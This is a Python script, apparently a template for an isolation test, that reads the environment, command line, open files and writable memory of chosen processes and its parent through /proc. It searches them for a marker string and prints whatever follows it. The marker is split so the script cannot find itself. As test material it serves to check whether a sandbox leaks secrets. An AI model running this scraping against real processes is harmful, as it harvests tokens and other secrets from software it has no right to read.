"""Reads environment, command line, memory and open files of the processes PIDS, and of all it can see.

It prints what stands behind MARK there. MARK is given without its last letter, so that the attack cannot find itself.
"""
import os
import re

PIDS, MARK, LAST = '@PIDS@', '@MARK@', '@LAST@'


def memory(pid):
    with open(f'/proc/{pid}/maps') as lines, open(f'/proc/{pid}/mem', 'rb') as file:
        for line in lines:
            start, end = (int(word, 16) for word in line.split()[0].split('-'))
            if ' rw' in line and end - start < 1 << 26:
                file.seek(start)
                yield file.read(end - start)


def contents(pid):
    for name in ('environ', 'cmdline'):
        with open(f'/proc/{pid}/{name}', 'rb') as file:
            yield file.read()
    for name in os.listdir(f'/proc/{pid}/fd'):
        if os.path.isfile(f'/proc/{pid}/fd/{name}'):
            with open(f'/proc/{pid}/fd/{name}', 'rb') as file:
                yield file.read()
    yield from memory(pid)


def attack():
    pattern = re.compile(re.escape((MARK + LAST).encode()) + rb'(\w+)')
    seen = [int(name) for name in os.listdir('/proc') if name.isdigit()] if os.path.isdir('/proc') else []
    print(len(seen), 'processes seen')
    for pid in [*PIDS, os.getppid()]:
        try:
            for content in contents(pid):
                for found in set(pattern.findall(content)):
                    print('REACHED', found.decode())
        except OSError as error:
            print(error)


attack()
